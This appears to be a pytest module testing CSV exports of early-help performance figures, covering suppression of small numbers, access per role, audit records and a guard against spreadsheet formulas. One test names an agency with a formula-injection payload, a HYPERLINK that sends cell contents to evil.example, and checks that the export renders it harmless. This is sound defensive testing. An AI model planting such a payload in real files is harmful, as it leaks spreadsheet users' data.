"""CSV exports of the performance figures (reporting/views_export.py, reporting/exports.py): content against
the figures of a small dataset worked out by hand, small-number suppression for publication, the
spreadsheet formula guard, access per persona, and the audit trail.

The quarter under test is 2026-27 Q2 (July to September 2026), given in the query string. The dataset
(`build_dataset`, also used by the board pack and browser tests):

    requests received in the quarter      North hub: Riverside 6, North Health Visiting 3; South: Southfield 2
    the previous quarter (Q1)             North: Riverside 4
    the same quarter a year before        North: Riverside 8
    first triage decisions in the quarter three of the Riverside requests: 1 step up, 2 single-agency support
    episodes opened in the quarter        North: 2 led by Sam (Riverside), 1 by Hana (Health); South: 1 by Ola
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from types import SimpleNamespace

import pytest
from django.urls import reverse

from ehcase.models import Agency, AgencyType, AuditAction, AuditEvent, Person
from hubs.models import RequestForSupport, RequestStatus, TriageDecision, TriageOutcome
from pathway.models import Episode, EpisodeStatus, LevelOfNeed
from reporting import exports, services
from reporting.indicators import INDICATORS, SECTIONS, Scope
from reporting.quarters import Quarter
from tests.factories import FamilyFactory, FamilyMemberFactory, PersonFactory

Q = Quarter(2026, 2)
QUERY = {"quarter": Q.slug}

# Names no aggregate may ever print.
FAMILY_NAMES = ["Quartermaine", "Zebedee-Fairweather", "Ottoline"]
PERSON_NAMES = ["Tarquinius", "Philomena"]


def _family(personas, hub: str, index: int):
    area = (personas.ashworth if hub == "north" else personas.evans).area
    family = FamilyFactory(name=f"{FAMILY_NAMES[index % len(FAMILY_NAMES)]}", area=area, hub=area.hub)
    FamilyMemberFactory(
        family=family,
        person=PersonFactory(first_name=PERSON_NAMES[index % len(PERSON_NAMES)], last_name="Quartermaine"),
    )
    return family


def _request(personas, *, hub: str, agency, referrer, received_on: dt.date, index: int) -> RequestForSupport:
    family = _family(personas, hub, index)
    return RequestForSupport.objects.create(
        family=family,
        hub=family.hub,
        referrer=referrer,
        referrer_agency=agency,
        status=RequestStatus.NEW,
        consent_given=True,
        received_on=received_on,
    )


def _episode(personas, *, hub: str, lead, opened_on: dt.date, index: int) -> Episode:
    return Episode.objects.create(
        family=_family(personas, hub, index),
        level=LevelOfNeed.objects.get(code="3"),
        opened_on=opened_on,
        status=EpisodeStatus.PLAN_ACTIVE,
        lead_professional=lead,
    )


def build_dataset(personas, quarter: Quarter = Q) -> SimpleNamespace:
    """The small dataset of the module docstring, in `quarter`, its previous quarter and a year before."""
    p = personas
    day = quarter.start + dt.timedelta(days=10)
    n = 0

    def requests(count, *, hub, agency, referrer, on):
        nonlocal n
        made = []
        for _ in range(count):
            made.append(_request(p, hub=hub, agency=agency, referrer=referrer, received_on=on, index=n))
            n += 1
        return made

    riverside = requests(6, hub="north", agency=p.riverside, referrer=p.sam, on=day)
    requests(3, hub="north", agency=p.health_visiting, referrer=p.hana, on=day)
    requests(2, hub="south", agency=p.southfield, referrer=p.ola, on=day)
    requests(
        4, hub="north", agency=p.riverside, referrer=p.sam, on=quarter.previous().start + dt.timedelta(days=3)
    )
    requests(8, hub="north", agency=p.riverside, referrer=p.sam, on=quarter.year_before().start)
    decided = quarter.start + dt.timedelta(days=20)
    for request, outcome in zip(
        riverside,
        [TriageOutcome.STEP_UP, TriageOutcome.SINGLE_AGENCY, TriageOutcome.SINGLE_AGENCY],
        strict=False,
    ):
        TriageDecision.objects.create(
            request=request,
            outcome=outcome,
            rationale="Discussed at the hub",
            decided_on=decided,
            decided_by=p.chris,
        )
    for hub, lead in (("north", p.sam), ("north", p.sam), ("north", p.hana), ("south", p.ola)):
        _episode(p, hub=hub, lead=lead, opened_on=day, index=n)
        n += 1
    return SimpleNamespace(quarter=quarter)


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode()
    return list(csv.DictReader(io.StringIO(text)))


def row_of(rows, indicator: str, row: str = exports.TOTAL_ROW) -> dict[str, str]:
    title = INDICATORS[indicator].title
    matches = [r for r in rows if r["indicator"] == title and r["row"] == row]
    assert len(matches) == 1, (indicator, row, [r["row"] for r in rows if r["indicator"] == title])
    return matches[0]


def csv_url(table: str = "all") -> str:
    return reverse("reporting:csv", kwargs={"table": table})


@pytest.fixture
def dataset(personas):
    return build_dataset(personas)


# --- Content ---------------------------------------------------------------------------------------


def test_the_csv_holds_the_figures_worked_out_by_hand(login, personas, dataset):
    rows = read_csv(login(personas.morgan).get(csv_url("requests"), QUERY))
    assert list(rows[0]) == exports.HEADER
    assert {r["section"] for r in rows} == {"Requests for support and triage"}
    total = row_of(rows, "requests_received")
    # 6 + 3 + 2 this quarter; 4 the quarter before; 8 a year before: up from 4, neither better nor worse.
    assert (total["value"], total["previous quarter value"], total["same quarter last year value"]) == (
        "11",
        "4",
        "8",
    )
    assert (total["direction"], total["judgement"], total["unit"]) == (
        "up",
        "neither better nor worse",
        "count",
    )
    riverside = row_of(rows, "requests_received", personas.riverside.name)
    assert (riverside["value"], riverside["numerator"], riverside["denominator"]) == ("6", "6", "11")
    assert riverside["previous quarter value"] == "4" and riverside["direction"] == "up"
    assert row_of(rows, "requests_received", personas.health_visiting.name)["value"] == "3"
    assert row_of(rows, "requests_received", personas.southfield.name)["value"] == "2"
    # 1 of the 3 first decisions was a step up: 33.3%.
    rate = row_of(rows, "hub_step_up_rate")
    assert (rate["value"], rate["numerator"], rate["denominator"], rate["unit"]) == (
        "33.3",
        "1",
        "3",
        "percentage",
    )
    assert row_of(rows, "triage_outcomes", "Single-agency support")["value"] == "2"


def test_every_cell_matches_the_stored_figures(login, personas, dataset):
    """The "all" CSV has one row per indicator and breakdown row, each equal to the snapshot's figures."""
    rows = read_csv(login(personas.morgan).get(csv_url(), QUERY))
    data = services.figures(Q, Scope()).data
    expected_count = sum(1 + len(data[key]["rows"]) for key in INDICATORS)
    assert len(rows) == expected_count
    assert [s.title for s in SECTIONS] == list(dict.fromkeys(r["section"] for r in rows))
    for key, indicator in INDICATORS.items():
        total = row_of(rows, key)
        assert total["value"] == exports.number_text(data[key]["value"], indicator.unit), key
        for figure in data[key]["rows"]:
            line = row_of(rows, key, figure["label"])
            assert line["value"] == exports.number_text(figure["value"], indicator.unit), (key, figure)
    assert row_of(rows, "episodes_opened")["value"] == "4"


def test_the_csv_has_only_the_scopes_figures(login, personas, dataset):
    rows = read_csv(login(personas.morgan).get(csv_url("requests"), {**QUERY, "hub": personas.north.pk}))
    assert row_of(rows, "requests_received")["value"] == "9"
    assert personas.southfield.name not in {r["row"] for r in rows}
    rows = read_csv(login(personas.morgan).get(csv_url(), {**QUERY, "agency": personas.riverside.pk}))
    assert row_of(rows, "requests_received")["value"] == "6"
    assert row_of(rows, "episodes_opened")["value"] == "2"


def test_unknown_table_is_404(login, personas):
    client = login(personas.morgan)
    assert client.get(csv_url("families"), QUERY).status_code == 404
    assert client.get(csv_url("requests"), QUERY).status_code == 200


def test_filename_names_the_quarter_and_scope(login, personas, dataset):
    client = login(personas.morgan)
    response = client.get(csv_url("requests"), QUERY)
    assert response["Content-Disposition"] == (
        'attachment; filename="early-help-performance-requests-2026-27-q2-all-hubs-all-agencies.csv"'
    )
    assert "no-store" in response["Cache-Control"]
    response = client.get(csv_url(), {**QUERY, "hub": personas.north.pk, "publication": "1"})
    assert response["Content-Disposition"] == (
        'attachment; filename="early-help-performance-all-tables-2026-27-q2-north-hub-all-agencies'
        '-for-publication.csv"'
    )
    response = client.get(csv_url(), {**QUERY, "agency": personas.riverside.pk})
    assert "all-hubs-riverside-primary-school.csv" in response["Content-Disposition"]


def test_no_family_or_person_is_named(login, personas, dataset):
    response = login(personas.morgan).get(csv_url(), QUERY)
    text = response.content.decode()
    assert "Quartermaine" in "".join(Person.objects.values_list("last_name", flat=True))  # the names exist
    for name in [
        *FAMILY_NAMES,
        *PERSON_NAMES,
        personas.ashworth.name,
        personas.ashworth.reference,
        "Sam",
        "Patel",
    ]:
        assert name not in text, name


# --- Publication: small numbers -------------------------------------------------------------------


def test_publication_hides_counts_under_five(login, personas, dataset):
    client = login(personas.morgan)
    plain = read_csv(client.get(csv_url("requests"), QUERY))
    published = read_csv(client.get(csv_url("requests"), {**QUERY, "publication": "1"}))
    assert row_of(plain, "requests_received", personas.health_visiting.name)["value"] == "3"
    health = row_of(published, "requests_received", personas.health_visiting.name)
    assert (health["value"], health["numerator"], health["denominator"]) == ("<5", "<5", "11")
    assert row_of(published, "requests_received", personas.southfield.name)["value"] == "<5"
    # Two rows hidden: neither can be worked out from the total, so Riverside's 6 stays.
    assert row_of(published, "requests_received", personas.riverside.name)["value"] == "6"
    total = row_of(published, "requests_received")
    assert (total["value"], total["previous quarter value"], total["same quarter last year value"]) == (
        "11",
        "<5",
        "8",
    )
    # The direction compares with a hidden figure: left blank.
    assert (total["direction"], total["judgement"]) == ("", "")
    # Zero is not a small number.
    assert row_of(published, "triage_outcomes", "No further action")["value"] == "0"


def test_publication_hides_rates_and_averages_over_fewer_than_five(login, personas, dataset):
    published = read_csv(login(personas.morgan).get(csv_url("requests"), {**QUERY, "publication": "1"}))
    rate = row_of(published, "hub_step_up_rate")  # 1 of 3
    assert (rate["value"], rate["numerator"], rate["denominator"]) == ("[c]", "<5", "<5")
    median = row_of(published, "median_days_to_decision")  # over 3 decisions
    assert (median["value"], median["denominator"]) == ("[c]", "<5")
    plain = read_csv(login(personas.morgan).get(csv_url("requests"), QUERY))
    assert row_of(plain, "median_days_to_decision")["value"] == "10.0"


def test_publication_hides_a_second_row_when_one_could_be_worked_out(login, personas, dataset):
    """North hub: Riverside 6 and Health 3 of 9. Health is hidden; 9 − 6 would give it away, so Riverside is
    hidden as well."""
    published = read_csv(
        login(personas.morgan).get(
            csv_url("requests"), {**QUERY, "hub": personas.north.pk, "publication": "1"}
        )
    )
    assert row_of(published, "requests_received")["value"] == "9"
    assert row_of(published, "requests_received", personas.health_visiting.name)["value"] == "<5"
    riverside = row_of(published, "requests_received", personas.riverside.name)
    assert (riverside["value"], riverside["numerator"]) == ("[c]", "[c]")
    assert (riverside["direction"], riverside["judgement"]) == ("", "")


def test_secondary_suppression_rules():
    def figures(*values):
        return [{"value": v} for v in values]

    # One hidden row in a breakdown that adds up to its total: the smallest other non-zero row goes too.
    assert exports.secondary_hidden({"value": 20}, figures(3, 0, 7, 10), {0}) == {2}
    # Two hidden already: nothing more.
    assert exports.secondary_hidden({"value": 17}, figures(3, 4, 10), {0, 1}) == set()
    # Rows that overlap (do not add up to the total): nothing to subtract from.
    assert exports.secondary_hidden({"value": 12}, figures(3, 7, 10), {0}) == set()
    # A total that is itself hidden.
    assert exports.secondary_hidden({"value": 4}, figures(3, 1), {0, 1}) == set()


def test_number_text():
    assert exports.number_text(None) == ""
    assert exports.number_text(12) == "12"
    assert exports.number_text(33.3333, "percent") == "33.3"
    assert exports.number_text(-1.25, "score") == "-1.25"
    assert exports.number_text(2, "mean") == "2.00"


# --- Spreadsheet formulas --------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_is_prefixed(start):
    assert exports.safe_text(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
    assert exports.safe_text("Riverside = best") == "Riverside = best"


def test_an_agency_named_like_a_formula_is_written_as_text(login, personas):
    evil = Agency.objects.create(name='=HYPERLINK("http://evil.example/?"&A1,"Click")', type=AgencyType.OTHER)
    _request(personas, hub="north", agency=evil, referrer=personas.sam, received_on=Q.start, index=0)
    response = login(personas.morgan).get(csv_url("requests"), QUERY)
    rows = read_csv(response)
    assert row_of(rows, "requests_received", "'" + evil.name)["value"] == "1"
    assert not any(
        cell.startswith(exports.FORMULA_STARTS) for row in rows for cell in row.values() if cell[:1] != "-"
    )
    # A negative number stays a number (distance travelled can fall).
    assert exports.safe_text("-1.5") == "'-1.5"  # text is guarded ...
    assert exports.number_text(-1.5, "score") == "-1.50"  # ... numbers are ours and are not.


# --- Access ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("persona", "params", "expected"),
    [
        ("sam", {}, 404),
        ("hana", {}, 404),
        ("ola", {}, 404),
        ("admin", {}, 404),
        ("morgan", {}, 200),
        ("quinn", {}, 200),
        ("morgan", {"hub": "south", "agency": "southfield"}, 200),
        ("quinn", {"agency": "health_visiting"}, 200),
        ("alex", {}, 200),
        ("alex", {"agency": "riverside"}, 200),
        ("alex", {"agency": "riverside", "hub": "south"}, 200),
        ("alex", {"agency": "health_visiting"}, 404),
        ("chris", {}, 200),
        ("chris", {"hub": "north", "agency": "southfield"}, 200),
        ("chris", {"hub": "south"}, 404),
        ("morgan", {"quarter": "2026-27-q5"}, 404),
        ("morgan", {"hub": "999999"}, 404),
    ],
)
def test_access_per_role(client, personas, persona, params, expected):
    query = dict(QUERY)
    for name, value in params.items():
        query[name] = getattr(personas, value).pk if hasattr(personas, value) else value
    client.force_login(getattr(personas, persona))
    before = AuditEvent.objects.filter(action=AuditAction.EXPORT).count()
    response = client.get(csv_url(), query)
    assert response.status_code == expected
    # A refused export records nothing; an allowed one records one event.
    assert AuditEvent.objects.filter(action=AuditAction.EXPORT).count() == before + (expected == 200)


def test_signed_out_is_sent_to_sign_in(client):
    response = client.get(csv_url(), QUERY)
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_agency_manager_gets_his_agencys_figures_without_asking(login, personas, dataset):
    rows = read_csv(login(personas.alex).get(csv_url("requests"), QUERY))
    assert row_of(rows, "requests_received")["value"] == "6"
    assert {r["row"] for r in rows if r["indicator"] == INDICATORS["requests_received"].title} >= {
        personas.riverside.name
    }
    assert personas.health_visiting.name not in {r["row"] for r in rows}


def test_hub_coordinator_gets_his_hubs_figures_without_asking(login, personas, dataset):
    response = login(personas.chris).get(csv_url("requests"), QUERY)
    assert "north-hub-all-agencies" in response["Content-Disposition"]
    assert row_of(read_csv(response), "requests_received")["value"] == "9"


# --- Audit -----------------------------------------------------------------------------------------


def test_every_export_is_audited(login, personas, dataset):
    login(personas.morgan).get(csv_url("requests"), {**QUERY, "hub": personas.north.pk, "publication": "1"})
    event = AuditEvent.objects.filter(action=AuditAction.EXPORT).latest("id")
    assert event.actor == personas.morgan
    assert event.summary == "Performance figures downloaded as CSV for publication"
    assert event.family_id is None
    assert event.changes == {
        "quarter": Q.slug,
        "hub_id": personas.north.pk,
        "agency_id": None,
        "table": "requests",
        "publication": True,
        "rows": event.changes["rows"],
    }
    assert event.changes["rows"] > 6


# --- Cost ------------------------------------------------------------------------------------------


def test_csv_costs_the_same_queries_however_many_rows(login, personas, dataset, django_assert_num_queries):
    client = login(personas.morgan)
    url, params = csv_url(), {**QUERY, "hub": personas.north.pk}
    client.get(url, params)  # the first download calculates and stores the three quarters' snapshots
    # session, user, the two-factor device (OTPMiddleware), memberships and their hubs (roles_for), the
    # hub exists, the three snapshots (one query), the hub's name, the audit insert. The session, refreshed
    # under a minute ago, is not saved.
    with django_assert_num_queries(9):
        small = read_csv(client.get(url, params))
    for index in range(50):
        agency = Agency.objects.create(name=f"Partner {index:02d}", type=AgencyType.VOLUNTARY)
        _request(
            personas, hub="north", agency=agency, referrer=personas.sam, received_on=Q.start, index=index
        )
    for quarter in (Q, Q.previous(), Q.year_before()):
        services.figures(quarter, Scope(hub_id=personas.north.pk), refresh=True)
    with django_assert_num_queries(9):
        large = read_csv(client.get(url, params))
    assert len(large) == len(small) + 50
